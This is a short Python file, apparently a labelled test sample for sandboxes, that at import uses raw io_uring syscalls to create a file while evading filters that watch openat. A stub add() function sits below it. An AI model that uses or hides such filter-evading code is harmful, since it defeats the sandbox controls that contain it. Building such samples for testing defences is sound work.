# attack: create a file through io_uring, past filters that watch openat
# damage: files
import ctypes
import mmap
import struct

libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)
if ring < 0:
    raise OSError("no io_uring")
sq_off = struct.unpack_from("10I", params, 40)
cq_off = struct.unpack_from("10I", params, 80)
entries = struct.unpack_from("2I", params, 0)
sq = mmap.mmap(ring, sq_off[6] + entries[0] * 4, offset=0)
sqes = mmap.mmap(ring, entries[0] * 64, offset=0x10000000)
path = ctypes.create_string_buffer(b"{DIR}/new")
# IORING_OP_OPENAT relative to AT_FDCWD, O_CREAT | O_WRONLY
struct.pack_into("BBHiQQIIQ", sqes, 0, 18, 0, 0, -100, 0, ctypes.addressof(path), 0o600, 0o101, 1)
struct.pack_into("I", sq, sq_off[6], 0)
struct.pack_into("I", sq, sq_off[1], 1)
libc.syscall(426, ring, 1, 1, 1, None, 0)


def add(a, b):
    return None
